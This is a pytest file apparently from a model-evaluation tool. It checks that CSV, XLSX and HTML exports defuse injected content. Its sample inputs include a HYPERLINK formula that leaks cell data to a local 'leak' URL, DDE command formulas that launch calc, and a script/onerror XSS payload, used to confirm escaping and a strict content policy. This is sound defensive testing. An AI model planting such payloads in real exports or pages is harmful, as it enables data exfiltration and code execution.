"""Exports are safe to open: no formula in a workbook or a CSV, no live markup in the page."""

from __future__ import annotations

import base64
import csv
import hashlib
import json
from pathlib import Path
from typing import Any

import openpyxl

from judgedesk.cli import main
from judgedesk.core.dataset import open_dataset
from judgedesk.core.report.exports import write_export
from judgedesk.core.report.exports.html import CONTENT_POLICY
from judgedesk.core.report.exports.html_rows import SCRIPT, SCRIPT_HASH
from judgedesk.core.run.store import Store
from tests.core.test_pipeline import make_project, run
from tests.support.fake_openai import FakeOpenAI

LINK = '=HYPERLINK("http://127.0.0.1:9/leak?d="&A1,"Open")'
ANSWERS = [LINK, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0"]
MARKUP = '<img src="http://127.0.0.1:9/x.png" onerror="alert(1)"><script>alert(2)</script>'
STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile_reply(body: dict[str, Any]) -> str:
    return f"{LINK} {MARKUP}\nScore: [[4]]"


def hostile_project(root: Path, base_url: str) -> Any:
    project = make_project(root, base_url, rows=len(ANSWERS))
    project.name = f"items {MARKUP}"
    project.save()
    rows = [json.loads(line) for line in project.dataset_path().read_text().splitlines()]
    with project.dataset_path().open("w", encoding="utf-8") as handle:
        for row, answer in zip(rows, ANSWERS, strict=True):
            row["response"] = {"content": answer}
            row["question"] = "=1+1 " + row["question"]
            handle.write(json.dumps(row) + "\n")
    return project


def export(project: Any, out: Path, fmt: str, **options: Any) -> Path:
    with open_dataset(project.dataset_path()) as dataset, Store(project.store_path) as store:
        assert write_export(store, out, fmt, dataset, project=project, **options) == len(ANSWERS)
    return out


def test_replies_and_answers_that_look_like_formulas_are_never_formulas(tmp_path: Path) -> None:
    with FakeOpenAI(reply=hostile_reply) as fake:
        project = hostile_project(tmp_path / "p", fake.base_url)
        assert run(project).to_dict()["ok"] == len(ANSWERS)

    # CSV: every text a spreadsheet would run starts with ', numbers stay numbers.
    path = export(project, tmp_path / "out.csv", "csv")
    cells = [c for line in csv.reader(path.open(encoding="utf-8-sig")) for c in line]
    assert not [c for c in cells if c.startswith(STARTS) and not _number(c)]
    assert "'" + LINK + " " + MARKUP + "\nScore: [[4]]" in cells
    assert {"'" + a for a in ANSWERS} <= set(cells)
    assert "'=1+1 What about item 0?" in cells
    assert "4" in cells  # the score, a number
    raw = export(project, tmp_path / "raw.csv", "csv", raw=True)
    assert LINK in {c for line in csv.reader(raw.open(encoding="utf-8-sig")) for c in line}

    # XLSX: cells hold the text as written, stored as text, never as a formula.
    book = openpyxl.load_workbook(export(project, tmp_path / "out.xlsx", "xlsx"))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    assert set(ANSWERS) <= set(values) and "=1+1 What about item 0?" in values

    # HTML: every value escaped; the page runs only its own script, loads nothing.
    page = export(project, tmp_path / "out.html", "html").read_text(encoding="utf-8")
    assert f'<meta http-equiv="Content-Security-Policy" content="{CONTENT_POLICY}">' in page
    directives = {d.split()[0]: d.split()[1:] for d in CONTENT_POLICY.split(";")}
    assert directives["default-src"] == ["'none'"] and "http" not in CONTENT_POLICY
    assert directives["script-src"] == [f"'{SCRIPT_HASH}'"]  # this one script, nothing else
    assert page.count("<script") == 2 and f"<script>{SCRIPT}</script>" in page
    assert '<script type="application/json" id="rows-data">' in page
    assert "<img" not in page and "alert(2)</script>" not in page
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in page
    hashed = base64.b64encode(hashlib.sha256(SCRIPT.encode()).digest()).decode()
    assert f"sha256-{hashed}" == SCRIPT_HASH


def test_the_command_line_keeps_csv_texts_as_written_only_when_asked(tmp_path: Path) -> None:
    with FakeOpenAI(reply=hostile_reply) as fake:
        project = hostile_project(tmp_path / "p", fake.base_url)
        run(project)
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    assert main(["export", str(project.root), "--out", str(safe)]) == 0
    assert main(["export", str(project.root), "--out", str(raw), "--raw"]) == 0
    assert "'" + ANSWERS[1] in safe.read_text(encoding="utf-8-sig")
    raw_cells = {c for line in csv.reader(raw.open(encoding="utf-8-sig")) for c in line}
    assert ANSWERS[1] in raw_cells


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_cells_with_carriage_returns_line_feeds_and_quotes_read_back_whole(
    tmp_path: Path,
) -> None:
    import io

    texts = [
        "x\r=HYPERLINK(1)",  # a bare carriage return: a spreadsheet would end the record
        "a\nb",
        "a\r\nb",
        'say "hi"',
        '"\r"',
        "\r",
        "plain, with a comma",
    ]
    with FakeOpenAI(reply=hostile_reply) as fake:
        project = make_project(tmp_path / "p", fake.base_url, rows=len(texts))
        rows = [json.loads(line) for line in project.dataset_path().read_text().splitlines()]
        with project.dataset_path().open("w", encoding="utf-8") as handle:
            for row, text in zip(rows, texts, strict=True):
                row["response"] = {"content": text}
                handle.write(json.dumps(row) + "\n")
        run(project)
    with open_dataset(project.dataset_path()) as dataset, Store(project.store_path) as store:
        out = tmp_path / "out.csv"
        assert write_export(store, out, "csv", dataset, project=project, raw=True) == len(texts)
    written = out.read_bytes().decode("utf-8-sig")
    table = list(csv.DictReader(io.StringIO(written, newline="")))
    answers = [name for name in table[0] if "response" in name]
    assert answers, list(table[0])
    assert [row[answers[0]] for row in table] == texts
    # A spreadsheet ends a record at a line ending outside quotes: none inside a cell.
    outside, quoted = [], False
    for char in written:
        quoted = not quoted if char == '"' else quoted
        if not quoted and char == "\r":
            outside.append(char)
    assert outside == []
